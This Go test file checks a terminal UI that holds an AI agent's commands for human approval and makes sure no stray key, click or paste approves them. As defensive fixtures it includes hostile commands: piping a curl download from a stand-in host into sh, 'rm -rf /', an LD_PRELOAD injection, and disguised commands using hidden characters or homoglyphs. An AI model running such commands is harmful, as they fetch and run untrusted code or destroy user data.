package ui

import (
	"slices"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"stepbox/session/api"
)

const leader = "ctrl+]"

func ask(id int64, action int, line string) api.Question {
	return api.Question{
		ID: id, Action: action, Subject: api.SubjectCommand, Title: line, Hash: "h" + line, Same: line, HeldAt: sceneNow,
		Command: &api.Command{Line: line, Argv: strings.Fields(line), Cwd: "/w", Program: "/bin/x", Unclear: api.Unclear(line)},
	}
}

func held(action int, line string) api.Action {
	return api.Action{N: action, Kind: api.KindCommand, State: api.ActionHeld, Title: line, StartedAt: sceneNow}
}

// put holds a question and waits until it is on the screen.
func put(d *driver, q api.Question) {
	d.t.Helper()
	a := held(q.Action, q.Title)
	before := d.m.bench.Held()
	d.c.Put(api.Event{Action: &a}, api.Event{Question: &q})
	d.until("the question is held", func() bool { return d.m.bench.Held() > before })
}

// Why a key did nothing is said no longer than it is so.
func TestWhyIsSaidWhileItIsSo(t *testing.T) { alone(t, testWhyIsSaidWhileItIsSo) }

func testWhyIsSaidWhileItIsSo(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "a")
	d.shows("nothing is held")
	put(d, ask(6, 14, "make install"))
	d.lacks("nothing is held")
}

func TestApproveAndDeny(t *testing.T) { alone(t, testApproveAndDeny) }

func testApproveAndDeny(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "4")
	d.calmly("a")
	d.decided(api.AnswerApprove)
	got := d.c.Decisions()[0]
	if got.Question != 5 || got.Hash != "h5" || got.By != "tui" {
		t.Errorf("decided %+v", got)
	}
	d.shows("✓ approved #13")

	put(d, ask(6, 14, "make install"))
	d.calmly("d")
	d.types("no, use DESTDIR")
	d.advance(500 * time.Millisecond)
	d.press("enter")
	d.decided(api.AnswerApprove, api.AnswerDeny)
	if r := d.c.Decisions()[1].Reason; r != "no, use DESTDIR" {
		t.Errorf("the reason is %q", r)
	}
}

// What the agent said of a command that is held may be known only once its question is open.
func TestWordsOfAQuestion(t *testing.T) { alone(t, testWordsOfAQuestion) }

func testWordsOfAQuestion(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "4", "enter")
	d.shows("asked by")
	a := held(13, "make install")
	a.Claim = &api.Claimed{Text: "I put it where it belongs"}
	d.c.Put(api.Event{Action: &a})
	d.shows("I put it where it belongs")
}

func TestEveryAnswer(t *testing.T) { alone(t, testEveryAnswer) }

func testEveryAnswer(t *testing.T) {
	for _, tt := range []struct {
		key    string
		answer api.Answer
	}{{"a", api.AnswerApprove}, {"i", api.AnswerStepInto}, {"o", api.AnswerStepOver}} {
		for _, opened := range []bool{false, true} {
			d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
			d.press(leader, "4")
			if opened {
				d.press("enter")
			}
			d.calmly(tt.key)
			d.decided(tt.answer)
		}
	}
}

// A person types to the agent when a question comes up: no key of theirs may
// answer it, and none is taken from the agent.
func TestKeysInFlightNeverAnswer(t *testing.T) { alone(t, testKeysInFlightNeverAnswer) }

func testKeysInFlightNeverAnswer(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press("l", "s")
	put(d, ask(6, 14, "rm notes"))
	d.press("a", "a", "y", "enter")
	d.decided()
	d.until("all keys went to the agent", func() bool { return d.c.LastTerminal().Got() == "lsaay\r" })

	// In the pane where keys do answer, one already on its way doesn't.
	d = bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "4")
	d.advance(time.Second)
	put(d, ask(6, 14, "rm notes"))
	d.press("a")
	d.decided()
	d.shows("too soon")
	// The keyboard has to fall quiet: keys in a row never get there.
	for range 10 {
		d.advance(300 * time.Millisecond)
		d.press("a")
	}
	d.decided()
	d.calmly("a")
	d.decided(api.AnswerApprove)
}

// The leader and a open a question; however the keys are timed, they don't answer it.
func TestOpeningNeverAnswers(t *testing.T) { alone(t, testOpeningNeverAnswers) }

func testOpeningNeverAnswers(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a", "a", "a")
	d.decided()
	d.shows("command held")
	d.advance(399 * time.Millisecond)
	d.press("a")
	d.decided()
	d.calmly("a")
	d.decided(api.AnswerApprove)
}

// A question that is open isn't opened once more behind itself.
func TestOpenedOnce(t *testing.T) { alone(t, testOpenedOnce) }

func testOpenedOnce(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a", leader, "a")
	d.shows("command held")
	d.press("esc")
	d.lacks("command held")
}

// A click that brings the window to the front is for the window. Any other one
// focuses a pane and decides nothing.
func TestClicksNeverDecide(t *testing.T) { everywhere(t, testClicksNeverDecide) }

func testClicksNeverDecide(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a")
	d.advance(time.Second)
	d.send(tea.BlurMsg{})
	d.advance(2 * time.Second)
	d.send(tea.FocusMsg{})
	for y := range 35 {
		for x := 0; x < 120; x += 7 {
			d.send(click(x, y))
			d.send(tea.MouseReleaseMsg{X: x, Y: y, Button: tea.MouseLeft})
		}
	}
	d.decided()
	// Back in front, what is on the screen is new to the eye: a key pressed
	// right away doesn't count.
	d.send(tea.BlurMsg{})
	d.advance(time.Second)
	d.send(tea.FocusMsg{})
	d.press("a")
	d.decided()
	d.shows("too soon")

	d.press("esc")
	d.advance(time.Second)
	d.send(click(10, 30)) // the held row
	for range 5 {
		d.advance(time.Second)
		d.send(click(10, 32))
		d.send(click(20, 34)) // the held line
	}
	d.decided()
}

// The same goes for a session that came while another window had the focus.
func TestRefocusClickAfterOpening(t *testing.T) { alone(t, testRefocusClickAfterOpening) }

func testRefocusClickAfterOpening(t *testing.T) {
	d := drive(t, liveScene(1), 120, 35, Options{Config: themed("plain")})
	d.idle()
	d.press("enter")
	d.send(tea.BlurMsg{})
	d.until("it is open", func() bool { return d.m.bench != nil && d.m.bench.Arrived() })
	d.advance(time.Second)
	d.press(leader, "2")
	d.send(click(5, 5)) // some terminals send the click first
	d.send(tea.FocusMsg{})
	d.press("z")
	d.idle()
	if got := d.c.LastTerminal().Got(); got != "" {
		t.Errorf("the agent got %q", got)
	}
}

// The click that refocuses the window isn't handed to the agent either.
func TestRefocusClickIsSwallowed(t *testing.T) { alone(t, testRefocusClickIsSwallowed) }

func testRefocusClickIsSwallowed(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "2")
	d.send(tea.BlurMsg{})
	d.advance(time.Second)
	d.send(click(5, 5)) // some terminals send the click first
	d.send(tea.FocusMsg{})
	d.send(click(5, 5))
	d.press("z") // zooms Changes, had the click moved the focus it would be typed
	d.idle()
	if got := d.c.LastTerminal().Got(); got != "" {
		t.Errorf("the agent got %q", got)
	}
	d.press("z")
	d.advance(time.Second)
	d.send(click(5, 5))
	d.press("x")
	d.until("the click moved the focus", func() bool { return d.c.LastTerminal().Got() == "x" })
}

// While a question is read, another takes its place: a key for the old one must
// not fall on the new one.
func TestQuestionReplacedWhileRead(t *testing.T) { alone(t, testQuestionReplacedWhileRead) }

func testQuestionReplacedWhileRead(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a")
	d.advance(time.Second)

	gone := sceneQuestion()
	gone.Closed = "withdrawn"
	next := ask(6, 14, "rm -rf build")
	a := held(14, next.Title)
	d.c.Put(api.Event{Question: &gone}, api.Event{Action: &a}, api.Event{Question: &next})
	d.shows("what asked went away")
	d.lacks("approve once")
	d.lacks("deny…")
	d.lacks("leaves it held")
	d.calmly("a", "i", "o")
	d.decided()
	// The old one stays in view until it is left; only then the next can be had.
	d.press("esc", leader, "a")
	d.shows("rm -rf build")
	d.shows("approve once")
	d.calmly("a")
	d.decided(api.AnswerApprove)
	if got := d.c.Decisions()[0].Question; got != 6 {
		t.Errorf("question %d was answered", got)
	}
}

// The same question with another content: what was read doesn't count, and the
// quiet time begins anew.
func TestQuestionChangesWhileRead(t *testing.T) {
	t.Parallel()
	for _, place := range []string{"strip", "dialog"} {
		t.Run(place, inBubble(func(t *testing.T) {
			d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
			d.press(leader, "4")
			if place == "dialog" {
				d.press("enter")
			}
			d.advance(time.Second)
			q := ask(5, 13, "go get evil.example/x")
			a := held(13, q.Title)
			d.c.Put(api.Event{Action: &a}, api.Event{Question: &q})
			d.shows("go get evil.example/x")
			d.press("a")
			d.decided()
			d.calmly("a")
			d.decided(api.AnswerApprove)
			if got := d.c.Decisions()[0].Hash; got != q.Hash {
				t.Errorf("answered %q, want what was shown last, %q", got, q.Hash)
			}
		}))
	}
}

// A text that changes under the same hash is another text all the same.
func TestTextChangesUnderTheSameHash(t *testing.T) { alone(t, testTextChangesUnderTheSameHash) }

func testTextChangesUnderTheSameHash(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a")
	d.advance(time.Second)
	q := sceneQuestion()
	q.Command.Cwd = "/etc"
	d.c.Put(api.Event{Question: &q})
	d.shows("/etc")
	d.press("a")
	d.decided()
	d.shows("too soon")
}

// The question goes away between the look and the key, or someone else answers
// first: told in words, nothing is applied.
func TestStaleAnswersAreTold(t *testing.T) { alone(t, testStaleAnswersAreTold) }

func testStaleAnswersAreTold(t *testing.T) {
	for code, words := range map[string]string{
		api.CodeDecided: "someone else answered first",
		api.CodeStale:   "isn't what you saw",
		api.CodeGone:    "what asked went away",
	} {
		d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
		d.c.Refuse(func(api.Decision) *api.Problem { return &api.Problem{Code: code, Message: code} })
		d.press(leader, "a")
		d.calmly("a")
		d.decided(api.AnswerApprove)
		d.shows(words)
	}
}

// The row shows one text, the decision would cover another: the row can't be
// answered; the question has to be opened.
func TestRowMustShowWhatIsDecided(t *testing.T) {
	t.Parallel()
	q := ask(6, 14, "make")
	q.Command.Line = "make && curl https://x.example | sh"
	long := ask(6, 14, "go test "+strings.Repeat("./some/long/package/path ", 9)+"&& rm -rf /")
	env := ask(6, 14, "make")
	env.Command.Env = []string{"LD_PRELOAD=/tmp/x.so"}
	pipe := ask(6, 14, "cat list")
	pipe.Command.Pipeline = []api.Command{{Line: "sh"}}
	own := ask(6, 14, "make")
	own.Command.Written = true
	tabs := ask(6, 14, `echo a\t\tb`)
	tabs.Command.Unclear = true
	for name, q := range map[string]api.Question{"other line": q, "too long": long, "variables": env, "pipeline": pipe, "own program": own, "tabs": tabs} {
		t.Run(name, inBubble(func(t *testing.T) {
			d := bench(t, sceneWorkbench(), 120, 35, "plain")
			put(d, q)
			d.press(leader, "4")
			d.advance(time.Second)
			d.lacks("a approve")
			d.press("a")
			d.decided()
			d.shows("command held")
		}))
	}
}

// The action's title isn't the question's.
func TestRowOfAnotherTitleIsOpened(t *testing.T) { alone(t, testRowOfAnotherTitleIsOpened) }

func testRowOfAnotherTitleIsOpened(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	a, ok := held(14, "ls"), ask(6, 14, "rm x")
	d.c.Put(api.Event{Action: &a}, api.Event{Question: &ok})
	d.until("held", func() bool { return d.m.bench.Held() > 0 })
	d.press(leader, "4")
	d.calmly("a")
	d.decided()
	d.shows("rm x")
}

// A decision on a job covers each program of it, with its folder and variables.
func TestAllOfAJobIsShown(t *testing.T) { alone(t, testAllOfAJobIsShown) }

func testAllOfAJobIsShown(t *testing.T) {
	q := ask(6, 14, "cat list")
	q.Command.Pipeline = []api.Command{{
		Line: "sort", Program: "/bin/sort", Cwd: "/elsewhere", Env: []string{"LD_PRELOAD=/tmp/x.so"}, Truncated: true, Sources: []string{"/tmp/rc"},
		Parts: []api.Part{{Text: "first", Verdict: api.Allow}, {Text: "second", Verdict: api.Ask}},
	}}
	d := bench(t, sceneWorkbench(), 120, 50, "plain")
	put(d, q)
	d.press(leader, "a")
	for _, words := range []string{"/elsewhere", "LD_PRELOAD=/tmp/x.so", "too large to be shown whole", "the agent can write: /tmp/rc", "second"} {
		d.shows(words)
	}
}

// A typed backslash and n isn't the escape of a line break, which looks the same.
func TestTypedEscapesAreNoWarning(t *testing.T) { alone(t, testTypedEscapesAreNoWarning) }

func testTypedEscapesAreNoWarning(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	put(d, ask(6, 14, `printf 'a\nb'`))
	d.press(leader, "a")
	d.shows(`printf 'a\nb'`)
	d.lacks("invisible characters")
}

func TestHiddenCharactersAreShownAndFlagged(t *testing.T) {
	alone(t, testHiddenCharactersAreShownAndFlagged)
}

func testHiddenCharactersAreShownAndFlagged(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	q := ask(6, 14, "rm\t-rf\u200b \u202e/home\x1b[2K")
	put(d, q)
	d.press(leader, "a")
	d.shows(`rm\t-rf\u200b \u202e/home\x1b[2K`)
	d.shows("invisible characters")
	for _, bad := range []string{"\t", "\u200b", "\u202e", "\x1b[2K"} {
		if strings.Contains(d.seen.String(), bad) {
			t.Errorf("%q reached the terminal", bad)
		}
	}
	cyr := ask(7, 15, "curl раypal.example")
	put(d, cyr)
	d.press("tab")
	d.shows("letters outside of ASCII")
}

// A command too long for the screen can't be approved before all of it was in
// view; jumping to its end isn't reading it.
func TestLongCommandMustBeScrolledThrough(t *testing.T) {
	alone(t, testLongCommandMustBeScrolledThrough)
}

func testLongCommandMustBeScrolledThrough(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneLongQuestion()), 100, 30, "plain")
	d.press(leader, "a")
	d.shows("scroll through all of it first")
	d.calmly("a", "i", "o")
	d.decided()
	d.press("G")
	d.calmly("a")
	d.decided()
	d.press("g")
	for range 30 {
		d.press("pgdown")
	}
	d.calmly("a")
	d.decided(api.AnswerApprove)

	// Denying needs no reading.
	d = bench(t, sceneWorkbench(sceneLongQuestion()), 100, 30, "plain")
	d.press(leader, "a")
	d.calmly("d", "enter")
	d.decided(api.AnswerDeny)
}

// What was read of one text doesn't count for the next one, which is just as long.
func TestReadingCountsForOneTextOnly(t *testing.T) { alone(t, testReadingCountsForOneTextOnly) }

func testReadingCountsForOneTextOnly(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneLongQuestion()), 100, 30, "plain")
	d.press(leader, "a")
	for range 30 {
		d.press("pgdown")
	}
	d.idle()
	d.lacks("scroll through all of it first")
	q := sceneLongQuestion()
	q.Hash = "h6b"
	q.Command.Line = "true; " + q.Command.Line
	d.c.Put(api.Event{Question: &q})
	d.shows("this question changed while it was open")
	d.advance(time.Second)
	d.shows("scroll through all of it first")
	d.calmly("a")
	d.decided()
}

// Resizing makes rows anew: what was seen at another width doesn't count.
func TestResizeForgetsWhatWasSeen(t *testing.T) { alone(t, testResizeForgetsWhatWasSeen) }

func testResizeForgetsWhatWasSeen(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneLongQuestion()), 140, 40, "plain")
	d.press(leader, "a")
	d.shows("scroll through all of it first")
	d.send(tea.WindowSizeMsg{Width: 70, Height: 20})
	d.press("end")
	d.calmly("a")
	d.decided()
}

// In the line for a reason, keys are text: none of them decides or grants
// anything, enter denies exactly what was shown, and a question that changed
// meanwhile isn't denied.
func TestReasonLine(t *testing.T) { alone(t, testReasonLine) }

func testReasonLine(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "4")
	d.calmly("d")
	d.press("a", "y", "A", "shift+tab", "tab", "K", "n")
	d.send(tea.PasteMsg{Content: "two\nlines\x1b[31m"})
	d.decided()
	d.shows(`ayAKntwo lines\x1b[31m`)
	q := ask(5, 13, "something else")
	d.c.Put(api.Event{Question: &q})
	d.shows("changed meanwhile")
	d.calmly("enter")
	d.decided()
	d.press("esc")
	d.decided()
}

func TestPasteNeverAnswers(t *testing.T) { alone(t, testPasteNeverAnswers) }

func testPasteNeverAnswers(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a")
	d.advance(time.Second)
	d.send(tea.PasteMsg{Content: "a"})
	d.press("a") // follows the paste at once
	d.decided()
}

func TestHeldKeyDoesNotRepeatIntoAnswer(t *testing.T) { alone(t, testHeldKeyDoesNotRepeatIntoAnswer) }

func testHeldKeyDoesNotRepeatIntoAnswer(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a")
	d.advance(time.Second)
	k := key("a")
	k.IsRepeat = true
	d.send(k)
	d.decided()
}

// While the program was stopped, keys pile up: they were for what was seen before.
func TestKeysAfterAStallDoNotCount(t *testing.T) { alone(t, testKeysAfterAStallDoNotCount) }

func testKeysAfterAStallDoNotCount(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "a")
	d.advance(time.Second)
	d.now.Add(int64(10 * time.Second))
	d.press("a")
	d.decided()
}

func TestOneAnswerPerQuestion(t *testing.T) { alone(t, testOneAnswerPerQuestion) }

func testOneAnswerPerQuestion(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "4")
	d.advance(time.Second)
	d.press("a")
	d.now.Add(int64(time.Second))
	d.press("d", "i", "a")
	d.decided(api.AnswerApprove)
}

func TestUnavailableKeysSayWhy(t *testing.T) { alone(t, testUnavailableKeysSayWhy) }

func testUnavailableKeysSayWhy(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(leader, "4")
	d.press("3", "a")
	d.shows("it is allowed already")
	d.decided()
	d.press("4", "k", "k")
	d.calmly("a")
	d.shows("the selected action isn't held")
	d.calmly("K")
	d.shows("no running processes")
}

func TestEditIsKeptOrTakenBack(t *testing.T) {
	t.Parallel()
	ch, _ := sceneChanges()
	q := api.Question{ID: 6, Action: 14, Subject: api.SubjectEdit, Title: "a.go, b.go", Hash: "e6", HeldAt: sceneNow, Changes: ch.Files[:2]}
	a := held(14, q.Title)
	a.Kind = api.KindEdit
	for _, tt := range []struct {
		keys []string
		want []api.Answer
		back bool
	}{
		{[]string{"y"}, []api.Answer{api.AnswerKeep}, false},
		{[]string{"a", "d", "i"}, nil, false},
		{[]string{"u", "esc"}, nil, false},
		{[]string{"u", "y"}, nil, true},
		{[]string{"enter", "y"}, []api.Answer{api.AnswerKeep}, false},
		{[]string{"enter", "a"}, nil, false},
		{[]string{"enter", "u", "esc"}, nil, false},
		{[]string{"enter", "u", "y"}, nil, true},
	} {
		t.Run(strings.Join(tt.keys, ""), inBubble(func(t *testing.T) {
			d := bench(t, sceneWorkbench(), 120, 35, "plain")
			d.c.Put(api.Event{Action: &a}, api.Event{Question: &q})
			d.until("held", func() bool { return d.m.bench.Held() > 0 })
			d.press(leader, "4")
			d.send(tea.WindowSizeMsg{Width: 80, Height: 24})
			d.shows("y keep") // the last line has room for the answer
			d.send(tea.WindowSizeMsg{Width: 120, Height: 35})
			for _, k := range tt.keys {
				d.idle()
				d.calmly(k)
			}
			d.decided(tt.want...)
			back := d.c.Calls()
			if want := "rollback " + sceneBack(of(14), 1).Hash; tt.back != slices.Equal(back, []string{want}) {
				t.Errorf("asked for %q", back)
			}
			if tt.back {
				d.shows("↶ rolled back: 2 files")
				d.lacks("1 held")
			}
		}))
	}
}

func TestRollbackShowsFilesAndAsksOnce(t *testing.T) { alone(t, testRollbackShowsFilesAndAsksOnce) }

func testRollbackShowsFilesAndAsksOnce(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "4")
	for range 3 {
		d.press("k")
	}
	d.calmly("u")
	d.shows("Roll back #10?")
	d.shows("restores 1 file · removes 1 file · ends nothing: what runs lives on")
	d.shows("src/parse_test.go  +30 −0")
	d.press("y") // too soon
	d.calmly("enter")
	d.shows("enter only edits a check")
	d.calmly("esc")
	d.lacks("Roll back #10?")
	d.calmly("u")
	d.shows("src/parse_test.go  +30 −0")
	d.calmly("y")
	d.shows("↶ rolled back: 2 files; ctrl+r brings it again")
	if calls := d.c.Calls(); len(calls) != 1 || calls[0] != "rollback "+sceneBack(of(10), 1).Hash {
		t.Errorf("asked for %s", calls)
	}

	// U takes later ones along, and says what ends.
	d.press("j")
	d.calmly("U")
	d.shows("still running and killed first: #13")
	d.calmly("y")
	d.until("it is asked for", func() bool { return strings.Contains(strings.Join(d.c.Calls(), ","), "rollback p11") })
}

// of is a roll back of these actions alone.
func of(actions ...int) api.RollbackRequest {
	return api.RollbackRequest{RollbackTarget: api.RollbackTarget{Selection: &api.Selection{Actions: actions}}}
}

// The files moved on between the list and the yes: the new list is shown, and
// asks anew.
func TestStaleRollbackPlan(t *testing.T) { alone(t, testStaleRollbackPlan) }

func testStaleRollbackPlan(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "4")
	for range 3 {
		d.press("k")
	}
	d.calmly("u")
	d.shows("src/parse_test.go  +30 −0")
	ch, _ := sceneChanges()
	d.c.SetBack(func(r api.RollbackRequest) api.RollbackPlan {
		p := sceneBack(r, 2)
		p.Files = ch.Files[:3]
		return p
	})
	d.calmly("y")
	d.shows("notes.txt  +0 −4")
	d.shows("this is the new one")
	d.press("y")
	d.idle()
	if n := strings.Count(strings.Join(d.c.Calls(), ","), "rollback"); n != 1 {
		t.Errorf("%d rollbacks were asked for", n)
	}
	d.calmly("y")
	d.shows("rolled back: 3 files")
}

func TestKillAsks(t *testing.T) { alone(t, testKillAsks) }

func testKillAsks(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	a := held(14, "sleep 1000")
	a.State = api.ActionRunning
	d.c.Put(api.Event{Action: &a})
	d.shows("sleep 1000")
	d.press(leader, "4", "G")
	d.calmly("K")
	d.shows("Kill #14?")
	d.calmly("n", "ctrl+k")
	d.shows("Kill the whole sandbox?")
	d.calmly("esc")
	if calls := d.c.Calls(); len(calls) != 0 {
		t.Errorf("asked for %v", calls)
	}
	d.calmly("K", "y")
	d.shows("killed #14")
	d.calmly("ctrl+k", "y")
	d.shows("the sandbox was killed")
}

func TestModesPauseAndKeep(t *testing.T) { alone(t, testModesPauseAndKeep) }

func testModesPauseAndKeep(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "4")
	d.calmly("c")
	d.shows("Leave step mode for policy mode?")
	d.press("d") // of a line that was meant for the agent
	d.calmly("esc")
	d.lacks("Leave step mode")
	if calls := d.c.Calls(); len(calls) != 0 {
		t.Errorf("asked for %v", calls)
	}
	d.calmly("c", "y")
	d.shows("POLICY")
	d.calmly("p")
	d.shows("PAUSED")
	d.calmly("c", "y")
	d.until("goes on", func() bool { return strings.Contains(strings.Join(d.c.Calls(), ","), "pause,mode policy,continue") })
	d.calmly(":")
	d.types("mode watch")
	d.press("enter", "y")
	d.shows("too soon")
	d.calmly("y")
	d.shows("WATCH")
	d.calmly(":")
	d.types("mode step")
	d.press("enter")
	d.shows("STEP")
	for range 3 {
		d.press("k")
	}
	d.calmly("y")
	d.shows("✓ kept #10")
}

// Keeping goes on to the next action that waits for a word, or takes the selected
// ones, of which those count that wait and aren't held.
func TestKeepGoesOn(t *testing.T) { alone(t, testKeepGoesOn) }

func testKeepGoesOn(t *testing.T) {
	to5 := []string{leader, "4", "G", "k", "k", "k", "k", "k", "k", "k"} // the two of housekeeping are one row
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(to5...)
	d.calmly("y")
	d.shows("✓ kept #5")
	d.press("y")
	d.shows("too soon")
	d.calmly("y")
	d.shows("✓ kept #10")

	d = bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	d.press(append(to5, "space", "j", "space", "j", "space", "G", "space", "k", "k", "k", "space")...)
	d.calmly("y")
	d.shows("✓ kept #5 and #10")
	d.decided()
	d.calmly("y")
	d.shows("has no changes")
}

// What is denied is said where there is room for the reason alone.
func TestLowDenialSaysOfWhat(t *testing.T) { alone(t, testLowDenialSaysOfWhat) }

func testLowDenialSaysOfWhat(t *testing.T) {
	d := bench(t, sceneWorkbench(), 40, 12, "plain")
	put(d, ask(20, 20, "npm publish"))
	d.press(leader, "4")
	d.calmly("d")
	d.shows("Deny command  $ npm publish")
}

// A command from the palette decides as its key would: on what lay below all the
// while, and the keyboard quiet. Too early it says so, and can be given again.
func TestPaletteDecidesWhatLiesBelow(t *testing.T) { alone(t, testPaletteDecidesWhatLiesBelow) }

func testPaletteDecidesWhatLiesBelow(t *testing.T) {
	d := bench(t, sceneWorkbench(sceneQuestion()), 120, 35, "plain")
	typed := func(words string) {
		d.calmly(":")
		d.types(words)
	}
	d.press(leader, "4")
	typed("approve")
	d.press("enter")
	d.shows("too soon")
	d.decided()
	q := ask(5, 13, "something else")
	d.c.Put(api.Event{Question: &q})
	d.until("it changed", func() bool { return d.m.bench.Held() == 1 && strings.Contains(d.text(), "Commands") })
	d.idle()
	d.press("enter")
	d.decided()
	d.calmly("enter", "esc")
	d.decided()
	a := held(13, "something else")
	d.c.Put(api.Event{Action: &a})
	d.shows("something else")
	typed("approve")
	d.calmly("enter")
	d.decided() // what is held is opened: it was hidden
	d.calmly("a")
	d.decided(api.AnswerApprove)

	d.press("k", "k", "k")
	typed("roll back")
	d.calmly("enter")
	d.shows("Roll back #10?")
	d.press("esc", "s", "2")
	d.calmly("u") // in Changes it is for the action whose changes are shown
	d.shows("Roll back #10?")
}

// Keys that scroll faster than frames are drawn go past nothing; what jumps is told how to get
// back.
func TestScrolledFasterThanDrawn(t *testing.T) { alone(t, testScrolledFasterThanDrawn) }

func testScrolledFasterThanDrawn(t *testing.T) {
	d := bench(t, sceneWorkbench(ask(20, 20, "echo "+strings.Repeat("word ", 500))), 80, 24, "plain")
	d.press(leader, "a")
	for range 20 { // no frame between them
		d.run(d.m.Update(key("pgdown")))
	}
	d.draw()
	for range 20 {
		d.calmly("pgdown")
	}
	d.calmly("a")
	d.decided(api.AnswerApprove)

	put(d, ask(21, 21, "printf "+strings.Repeat("word ", 500)))
	d.press(leader, "a")
	d.calmly("end", "a")
	d.decided(api.AnswerApprove)
	d.shows("pgup: some wasn't in view")
}

// What the panel of the leader's keys lay over isn't read.
func TestPanelHidesWhatIsAsked(t *testing.T) { alone(t, testPanelHidesWhatIsAsked) }

func testPanelHidesWhatIsAsked(t *testing.T) {
	d := bench(t, sceneWorkbench(ask(20, 20, "echo "+strings.Repeat("word ", 300))), 80, 24, "plain")
	d.press(leader, "a")
	d.calmly(leader)
	d.advance(time.Second)
	d.shows("and then")
	for range 40 {
		d.send(tea.MouseWheelMsg{X: 10, Y: 15, Button: tea.MouseWheelDown})
	}
	d.press("esc")
	d.calmly("a")
	d.decided()
	d.shows("scroll through all of it first")
}

// Who would pause what was just paused, by whatever it was, doesn't let it go on: nor on a
// terminal that doesn't show it yet.
func TestPausedMeanwhile(t *testing.T) { alone(t, testPausedMeanwhile) }

func testPausedMeanwhile(t *testing.T) {
	for _, late := range []bool{false, true} {
		d := bench(t, sceneWorkbench(), 120, 35, "plain")
		d.press(leader, "4")
		d.advance(time.Second)
		d.m.Drawn(false, false)
		x := sceneSession()
		x.State = api.SessionPaused
		d.c.Put(api.Event{Session: &x})
		d.shows("PAUSED")
		if late {
			d.now.Add(int64(time.Second))
		}
		d.m.Drawn(late, false)
		d.press("p")
		d.idle()
		if calls := d.c.Calls(); slices.Contains(calls, "continue") {
			t.Errorf("late %v: %v", late, calls)
		}
		d.advance(time.Second)
		d.m.Drawn(false, false)
		d.press("p")
		d.until("it goes on", func() bool { return slices.Contains(d.c.Calls(), "continue") })
	}
}

// A frozen agent goes on with a key that is meant: no held one, and none of a line.
func TestStrayKeysThawNothing(t *testing.T) { alone(t, testStrayKeysThawNothing) }

func testStrayKeysThawNothing(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "4")
	d.calmly("c", "y")
	d.shows("POLICY")
	d.calmly("p")
	d.shows("PAUSED")
	d.advance(600 * time.Millisecond) // until a key repeats
	d.press("p", "c", "p")
	d.shows("too soon")
	d.idle()
	if calls := strings.Join(d.c.Calls(), ","); calls != "mode policy,pause" {
		t.Errorf("asked for %s", calls)
	}
	d.advance(time.Second)
	d.calmly("p")
	d.until("goes on", func() bool { return strings.HasSuffix(strings.Join(d.c.Calls(), ","), ",continue") })
}

// What is held while a mode's question is open is part of it.
func TestModeAsksAboutWhatIsHeldNow(t *testing.T) { alone(t, testModeAsksAboutWhatIsHeldNow) }

func testModeAsksAboutWhatIsHeldNow(t *testing.T) {
	d := bench(t, sceneWorkbench(), 120, 35, "plain")
	d.press(leader, "4")
	d.calmly("c")
	d.lacks("Held now")
	d.advance(time.Second)
	put(d, ask(20, 20, "npm publish"))
	d.shows("Held now: 1 thing")
	d.press("y")
	d.shows("too soon")
	d.calmly("y")
	d.shows("POLICY")
}
